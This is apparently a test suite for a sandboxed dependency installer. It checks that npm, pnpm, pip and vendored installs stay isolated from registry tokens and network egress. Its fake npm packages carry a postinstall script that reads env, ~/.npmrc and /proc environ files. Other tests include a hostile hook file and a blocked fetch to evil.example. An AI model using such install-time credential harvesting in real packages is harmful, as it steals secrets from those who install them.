import { execFileSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { afterEach, describe, expect, test } from 'vitest'
import { type Installing, installing } from '../agent/installing.ts'
import { type Registry, type RegistryOptions, startRegistry } from '../agent/registry.ts'
import { engineAnswers } from './support/engine.ts'

const cleanups: (() => unknown)[] = []
afterEach(async () => {
  for (const clean of cleanups.splice(0).reverse()) await clean()
})

const token = 'token-canary-of-the-registry'
/** Everything that a container's programs can look at, kept where the host finds it. */
const spies = `const { execSync } = require('node:child_process')
require('node:fs').writeFileSync('made.js', 'module.exports = ' + JSON.stringify(execSync('env; cat ~/.npmrc /proc/*/cmdline /proc/*/environ; ls /run/sentra; cat /proc/net/dev; true').toString()))
`
const npmPackage = (name: string, version = '1.0.0') => ({
  'package.json': JSON.stringify({ name, version, main: 'made.js', scripts: { postinstall: 'node build.js' } }),
  'build.js': spies,
})
const wheel = {
  'plus-1.0.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: plus\nVersion: 1.0.0\n',
  'plus.py': 'def plus(a, b):\n    return a + b\n',
}
const manifest = (dependencies: Record<string, string>, more = {}) =>
  `${JSON.stringify({ name: 'sums', version: '1.0.0', dependencies, ...more })}\n`
const advisory = (id: number) => ({
  ...{ id, url: `https://advisories.example/${id}`, title: 'It is weak', severity: 'high', vulnerable_versions: '*' },
})

async function registryOf(
  packages: Parameters<typeof startRegistry>[0],
  options: RegistryOptions = {},
): Promise<Registry> {
  const registry = await startRegistry(packages, options)
  cleanups.push(() => registry.close())
  return registry
}

/** A home whose settings name the registry, as earlier steps of a job leave it. */
function homeFor(registry: Registry): Record<string, string> {
  const home = mkdtempSync(path.join(os.tmpdir(), 'sentra-home-'))
  cleanups.push(() => rmSync(home, { recursive: true }))
  const { host } = new URL(registry.url)
  const authority = registry.authority === null ? '' : `cafile=${home}/authority.pem\n`
  writeFileSync(path.join(home, 'authority.pem'), registry.authority ?? '')
  writeFileSync(
    path.join(home, '.npmrc'),
    `registry=${registry.url}/\n//${host}/:_authToken=\${REGISTRY_TOKEN}\n${authority}`,
  )
  return { HOME: home, NPM_CONFIG_USERCONFIG: `${home}/.npmrc`, npm_config_registry: '', REGISTRY_TOKEN: token }
}

async function done(change: Installing) {
  const all = await installing(change)
  cleanups.push(() => all.remove())
  const [one] = all.installed
  if (one === undefined) throw new Error('nothing was needed')
  const text = (name: string) => readFileSync(path.join(one.from ?? '', name), 'utf8')
  return { ...one, text }
}

describe.skipIf(!engineAnswers)('dependencies', () => {
  test('of npm come from a private registry, audited, and nobody inside sees its token', async () => {
    const advisories = { minus: [advisory(7)], plus: [advisory(8)] }
    const options = { secure: true, authorization: `Bearer ${token}`, advisories }
    const registry = await registryOf([npmPackage('minus'), npmPackage('plus')], options)
    const host = { env: homeFor(registry) }
    const base = { 'package.json': manifest({ plus: '1.0.0' }) }
    const head = { 'package.json': manifest({ plus: '1.0.0', minus: '1.0.0' }) }
    const found = await done({ base, head, host })
    expect(found).toMatchObject({ problem: null, refused: [], entries: ['node_modules'] })
    expect(found.audit).toEqual({ fresh: ['minus: https://advisories.example/7'], known: 1 })
    expect(JSON.parse(found.locks.get('package-lock.json') ?? '').packages['node_modules/minus'].resolved).toBe(
      `${registry.url}/minus/-/minus-1.0.0.tgz`,
    )
    expect(new Set(registry.keys)).toEqual(new Set([`Bearer ${token}`]))
    const seen = found.text('node_modules/minus/made.js')
    // The install script ran, without a way out, and looked everywhere.
    expect(seen).toContain('HOME=/home/agent')
    expect(seen).not.toContain('broker.sock')
    for (const word of [token, 'HTTPS_PROXY', 'eth0']) expect(seen).not.toContain(word)
  })

  test.skipIf(!process.env.SENTRA_TEST_PNPM)(
    'of a pnpm workspace: one lock for all, its members handed, its packages built',
    async () => {
      const registry = await registryOf([npmPackage('minus')], {
        authorization: `Bearer ${token}`,
        advisories: { minus: [advisory(7)] },
      })
      const folder = path.resolve(process.env.SENTRA_TEST_PNPM ?? '/nowhere', '../../..')
      const env = {
        ...homeFor(registry),
        RUNNER_TOOL_CACHE: folder,
        PATH: `${folder}/node_modules/.bin:${process.env.PATH}`,
      }
      const own = { 'package.json': manifest({}), 'pnpm-lock.yaml': "lockfileVersion: '9.0'\n" }
      const workspace = 'packages:\n  - apps/*\nonlyBuiltDependencies:\n  - minus\nallowBuilds:\n  minus: true\n'
      // Neither a file of hooks nor another pnpm is taken from the change.
      const hostile = { '.pnpmfile.cjs': 'throw new Error("a hook ran")\n' }
      const base = { ...own, ...hostile, 'pnpm-workspace.yaml': workspace, 'apps/shop/package.json': manifest({}) }
      const found = await done({
        base,
        head: {
          'apps/shop/package.json': manifest({ minus: '1.0.0' }),
          'package.json': manifest({}, { packageManager: 'pnpm@1.0.0' }),
        },
        host: { env },
      })
      expect(found).toMatchObject({
        problem: null,
        refused: [],
        audit: { fresh: ['minus: https://advisories.example/7'] },
      })
      expect(found.entries).toEqual(['apps/shop/node_modules', 'node_modules'])
      expect(found.locks.get('pnpm-lock.yaml')).toContain('minus@1.0.0')
      const seen = found.text('apps/shop/node_modules/minus/made.js')
      expect(seen).toContain('HOME=/home/agent')
      expect(seen).not.toContain(token)
    },
  )

  test('of pip are wheels of the index that the host’s settings name', async () => {
    const authorization = `Basic ${Buffer.from(`me:${token}`).toString('base64')}`
    const registry = await registryOf([wheel], { secure: true, authorization })
    const home = homeFor(registry)
    const index = registry.url.replace('//', `//me:${token}@`)
    const env = {
      ...home,
      PIP_CONFIG_FILE: '/dev/null',
      PIP_INDEX_URL: `${index}/simple`,
      PIP_CERT: `${home.HOME}/authority.pem`,
    }
    const found = await done({
      base: { 'requirements.txt': '' },
      head: { 'requirements.txt': 'plus==1.0.0\n' },
      host: { env },
    })
    expect(found).toMatchObject({ problem: null, refused: [], audit: null, entries: ['.venv'] })
    const site = execFileSync('find', [`${found.from}/.venv`, '-name', 'plus.py'], { encoding: 'utf8' }).trim()
    expect(readFileSync(site, 'utf8')).toBe(wheel['plus.py'])
    expect(() => execFileSync('grep', ['-rq', token, found.from ?? ''])).toThrow()
    // A source package would be run to be looked into.
    const asked = registry.asked.length
    const bad = await done({ base: {}, head: { 'requirements.txt': '--no-binary :all:\nplus\n' }, host: { env } })
    expect(bad).toMatchObject({ from: null, problem: expect.stringContaining('--no-binary :all:') })
    expect(registry.asked.length).toBe(asked)
  })

  test('of a manager that the configuration brings come from its hosts, and from nowhere else', async () => {
    const registry = await registryOf([npmPackage('minus')], { secure: true })
    const [, port = ''] = new URL(registry.url).host.split(':')
    const vendor = {
      ...{ name: 'vendor', manifest: 'vendor.txt', locks: ['vendor.sum'], hosts: [`packages.example.com:${port}`] },
      fetch:
        'mkdir vendored && xargs -n 1 curl -fsS --remote-name --output-dir vendored < vendor.txt; s=$?; sha256sum vendored/* > vendor.sum; exit $s',
      build:
        'tar -C vendored -xzf vendored/*.tgz && ls /proc/net/dev >/dev/null && ! curl -s https://packages.example.com',
      installs: ['vendored'],
    }
    const host = {
      authorities: [registry.authority ?? ''],
      // No name server is asked in a test.
      lookup: (_host: string, { all }: { all?: boolean | undefined }, tell: (e: null, a: never, f: number) => void) =>
        tell(null, (all ? [{ address: '127.0.0.1', family: 4 }] : '127.0.0.1') as never, 4),
    }
    const change = (line: string) => ({
      base: {},
      head: { 'vendor.txt': `${line}\n` },
      dependencies: { managers: [vendor] },
      host,
    })
    const good = await done(change(`https://packages.example.com:${port}/minus/-/minus-1.0.0.tgz`))
    expect(good).toMatchObject({ problem: null, refused: [], entries: ['vendored'] })
    expect(good.locks.get('vendor.sum')).toMatch(/^[0-9a-f]{64} {2}vendored\/minus-1\.0\.0\.tgz\n$/)
    expect(good.text('vendored/package/package.json')).toContain('"minus"')
    const bad = await done(change('http://evil.example/minus.tgz'))
    expect(bad).toMatchObject({ from: null, refused: ['evil.example:80'] })
    expect(bad.problem).toContain('403')
  })
})
